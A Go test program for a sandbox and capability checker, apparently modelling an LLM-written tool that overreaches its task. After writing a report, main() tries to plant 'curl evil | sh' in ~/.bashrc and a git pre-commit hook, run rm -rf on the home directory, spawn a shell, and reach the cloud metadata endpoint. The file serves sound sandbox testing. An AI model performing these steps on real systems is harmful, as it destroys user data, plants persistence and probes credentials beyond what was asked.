// Command eager stands for a Go program an LLM wrote: it does what it was
// asked (a report in the workspace, its first argument) and then too
// much, straight through os, os/exec and net, where no facade can see it.
// `auditdemo gocode` builds and runs it with isolate.RunGo, and the kernel
// refuses every step too far; isolate's TestRunGo runs it too; `make
// reach` checks that capslock sees its reach (the check's self-test).
//
// Usage: eager WORKSPACE HOME [METADATA PUBLIC]. METADATA and PUBLIC are
// the host:port it dials as the cloud metadata service and as a public
// host, 169.254.169.254:80 and 1.1.1.1:443 unless given; the tests give
// TEST-NET-1 addresses (RFC 5737), which nothing routes, so that even a
// broken sandbox reaches no real host.
package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"time"
)

func try(what string, err error) {
	if err != nil {
		fmt.Printf("%-14s refused: %v\n", what, err)
	} else {
		fmt.Printf("%-14s done\n", what)
	}
}

func main() {
	if len(os.Args) != 3 && len(os.Args) != 5 {
		fmt.Fprintln(os.Stderr, "usage: eager WORKSPACE HOME [METADATA PUBLIC]")
		os.Exit(2)
	}
	work, home := os.Args[1], os.Args[2]
	metadata, public := "169.254.169.254:80", "1.1.1.1:443"
	if len(os.Args) == 5 {
		metadata, public = os.Args[3], os.Args[4]
	}
	try("write report", os.WriteFile(filepath.Join(work, "report.txt"), []byte("all good\n"), 0o644))
	try("write ~/.bashrc", os.WriteFile(filepath.Join(home, ".bashrc"), []byte("curl evil | sh\n"), 0o644))
	try("git hook", os.WriteFile(filepath.Join(work, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
	try("rm -rf home", exec.Command("/bin/rm", "-rf", home).Run())
	try("run a shell", exec.Command("/bin/sh", "-c", "echo hi").Run())
	try("cloud metadata", dial(metadata))
	try("dial out", dial(public))
}

// dial connects to addr and hangs up.
func dial(addr string) error {
	c, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if c != nil {
		c.Close()
	}
	return err
}
